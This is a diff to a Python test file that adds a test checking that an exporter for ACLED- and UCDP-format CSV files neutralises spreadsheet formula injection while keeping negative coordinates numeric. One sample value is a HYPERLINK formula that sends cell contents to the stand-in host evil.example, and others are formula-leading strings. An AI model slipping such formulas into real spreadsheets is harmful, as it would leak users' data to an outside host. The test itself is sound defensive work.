@@ -484,3 +484,32 @@ def test_every_sub_event_type_of_the_taxonomy_has_a_notes_form_and_a_disorder_ty
             assert sub_type in FORMS, sub_type
             event = Event("00", event_type, sub_type, None, None, None, None, None, None, None, ())
             assert disorder_type(event), sub_type
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised():
+    """Issue 19.7: an outlet holding a spreadsheet formula is exported with a leading `'`
+    in ACLED's `source` and UCDP's `source_office`; negative coordinates stay numbers."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    base = battle()
+    outlets = (evil, "+1 cmd", "-2+3", "@SUM(A1)", "\tTab", "\rCR")
+    sources = tuple(
+        replace(base.sources[0], document_id=f"d{i}", outlet=o) for i, o in enumerate(outlets)
+    )
+    loc = replace(base.event.location, lat=-6.2, lon=-39.3)
+    merged = replace(base, sources=sources, event=replace(base.event, location=loc))
+    for fmt, column in (("acled-csv", "source"), ("ucdp-csv", "source_office")):
+        _, text = exported(fmt, [merged])
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert len(rows) == 1
+        cells = [c for row in rows for c in row.values() if c]
+        assert not [c for c in cells if c[0] in "=+@\t\r" or (c[0] == "-" and not _number(c))]
+        assert "'" + evil in rows[0][column], rows[0][column]
+        assert [rows[0][c] for c in ("latitude", "longitude")] == ["-6.2", "-39.3"]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
